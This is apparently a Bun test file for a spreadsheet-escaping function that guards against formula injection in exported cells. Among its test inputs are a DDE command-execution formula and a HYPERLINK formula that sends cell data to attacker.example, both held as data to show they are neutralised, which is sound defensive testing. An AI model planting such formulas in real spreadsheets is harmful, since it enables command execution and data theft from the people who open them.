import { expect, test } from "bun:test";
import { join } from "node:path";
import { exactText, spreadsheetText } from "../../src/base/text.ts";

test.each([
  ["=1+1", "'=1+1"],
  ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
  ['=HYPERLINK("http://attacker.example/?"&A1)', '\'=HYPERLINK("http://attacker.example/?"&A1)'],
  ["+49 30 1234", "'+49 30 1234"],
  ["-2+3", "'-2+3"],
  ["@SUM(A1)", "'@SUM(A1)"],
  [" =1+1", "' =1+1"],
  ["\t=1+1", "'\t'=1+1"],
  ["\r\n=1", "'\r'\n'=1"],
  ["\ta", "'\ta"],
  ["＝1+1", "'＝1+1"],
  ["＋1", "'＋1"],
  ["－1+1", "'－1+1"],
  ["＠SUM(A1)", "'＠SUM(A1)"],
  ["'=1+1", "''=1+1"],
  ["''=1+1", "'''=1+1"],
  ["x;=1+1", "x;'=1+1"],
  ['x;"=1+1;', "x;'\"=1+1;"],
  ["x\n=1+1", "x\n'=1+1"],
  ["=1;=2;a;'-3", "'=1;'=2;a;''-3"],
])("%j is no formula in a spreadsheet, whatever it splits at, and comes back as it was", (text, cell) => {
  expect(spreadsheetText(text)).toBe(cell);
  expect(exactText(cell)).toBe(text);
});

test.each([
  "-70.5",
  "+4930123456",
  "-1.5e-3",
  "+.5",
  "12",
  "",
  "kitchen-wall",
  "’s Gravenhage",
  "'s-Hertogenbosch",
  "O'Neill",
  "a=b; c",
])("%j stays as it is", (text) => {
  expect(spreadsheetText(text)).toBe(text);
  expect(exactText(text)).toBe(text);
});

/** Every text of so many of these letters. */
function texts(length: number, letters: readonly string[]): string[] {
  if (length === 0) return [""];
  return texts(length - 1, letters).flatMap((text) => letters.map((letter) => text + letter));
}

test("any text comes back as it was, and no part of it begins with a formula", () => {
  const begun = /(^|[;\t\n])['"\s]*[=-]/;
  const safe = /^'|^[\s"]*$/;
  for (let length = 0; length <= 5; length += 1)
    for (const text of texts(length, ["'", '"', "=", "-", "\t", "\n", " ", ";", "1"])) {
      const cell = spreadsheetText(text);
      if (exactText(cell) !== text) throw new Error(`${JSON.stringify(text)} is ${JSON.stringify(cell)}`);
      if (!begun.test(cell) || /^[+-]?[\d.]+$/.test(text)) continue;
      for (const part of cell.split(/[;\t\n]/))
        if (/^['"\s]*[=-]/.test(part) && !safe.test(part))
          throw new Error(`${JSON.stringify(part)} of ${JSON.stringify(text)} is computed`);
    }
});

const python = Bun.which("python3");

test.skipIf(python === null)("the line of Python in docs/download.md gives the exact texts too", async () => {
  const document = await Bun.file(join(import.meta.dir, "../../docs/download.md")).text();
  const [, line = ""] = /```python\n(def exact.*)\n/.exec(document) ?? [];
  const given = texts(3, ["'", '"', "=", "\t", "\n", ";", "1", "＝"]);
  const program = `import json, re, sys\n${line}\nprint(json.dumps([exact(t) for t in json.loads(sys.argv[1])]))`;
  const run = Bun.spawnSync([python ?? "", "-c", program, JSON.stringify(given.map(spreadsheetText))]);
  expect(JSON.parse(run.stdout.toString())).toEqual(given);
});
